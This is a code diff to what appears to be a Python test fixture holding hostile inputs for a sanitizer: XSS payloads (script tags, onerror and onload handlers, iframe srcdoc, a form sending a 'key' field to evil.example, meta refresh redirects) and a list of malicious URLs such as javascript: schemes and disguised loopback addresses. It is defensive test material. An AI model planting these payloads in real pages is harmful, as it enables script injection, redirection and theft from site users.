@@ -23,12 +23,10 @@ WORDS = {
     "script": f"<script>{RUNS}</script>",
     "handler": f'"><img src=x onerror="{RUNS}">',
     "attribute": f"\" autofocus tabindex=0 onfocus='{RUNS}' onmouseover='{RUNS}' style='position:fixed;inset:0' x=\"",
-    "single quotes": f"' onmouseover='{RUNS}' onload='{RUNS}' x='",
     "svg": f"</span></div></div></section><svg onload='{RUNS}'><animate onbegin='{RUNS}' attributeName=x dur=1s>",
     "frame": f'<iframe srcdoc="<script>parent.{RUNS}</script>"></iframe><object data="https://evil.example/">',
     "page": '<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example/">',
     "style": "</div><style>* { display: none } @import 'https://evil.example/x';</style><link rel=stylesheet href=/x>",
-    "cover": '</div></div></div><h1 style="position:fixed;inset:0;background:red">Pay here</h1>',
     "form": f'<form action="https://evil.example/"><input name=key autofocus><details open ontoggle="{RUNS}">',
     "entities": f"&lt;script&gt;{RUNS}&lt;/script&gt; &#34; onload=&#34;{RUNS} &quot;><script>{RUNS}</script>",
     "comment": f"<!--><script>{RUNS}</script>--> <![CDATA[ <textarea> <plaintext> </title>",
@@ -46,32 +44,16 @@ WORDS = {
 }
 """Texts for every field."""
 NO_ADDRESSES = [
-    f"javascript:{RUNS}",
-    f"JaVaScRiPt://pictures.example/%0a{RUNS}",
+    *(
+        f"javascript:{RUNS} JaVaScRiPt://pictures.example/%0a{RUNS} blob:https://pictures.example/1 https:x.example "
+        "http://pictures.example/pig.png //pictures.example/pig.png /mj/image/1 https:/\\evil.example/ https://[ "
+        "https://user:word@evil.example/ https://evil.example\\@pictures.example/ https://evil.example:99999/ "
+        "https://127.0.0.1/ https://127%2e0.0.1/ https://\uff11\uff12\uff17.0.0.1/ https://a.%6cocalhost/ "
+        "https://[::1]/ https://2130706433/ https://intranet/ https://evil.example/\u202egnp.x https://"
+    ).split(),
+    *("https://evil\t.example/", " https://evil.example/", "https://evil.example/a b"),
     f"data:text/html,<script>parent.{RUNS}</script>",
-    "blob:https://pictures.example/1",
-    "http://pictures.example/pig.png",
-    "//pictures.example/pig.png",
-    "/mj/image/1",
-    "https:pictures.example/pig.png",
-    "https:/\\evil.example/x.png",
-    "https://user:word@evil.example/x.png",
-    "https://evil.example\\@pictures.example/x.png",
-    "https://evil\t.example/x.png",
-    "https://evil.example/\u202egnp.x",
-    " https://evil.example/x.png",
-    "https://evil.example/a b.png",
-    "https://evil.example:99999/x.png",
-    "https://127.0.0.1/x.png",
-    "https://127%2e0.0.1/x.png",
-    "https://\uff11\uff12\uff17.0.0.1/x.png",
-    "https://a.%6cocalhost/x.png",
-    "https://[::1]/x.png",
-    "https://2130706433/x.png",
-    "https://intranet/x.png",
     "https://evil.example/" + "x" * 100_000,
-    "https://[",
-    "https://",
 ]
 """URLs that a browser must not open."""
 
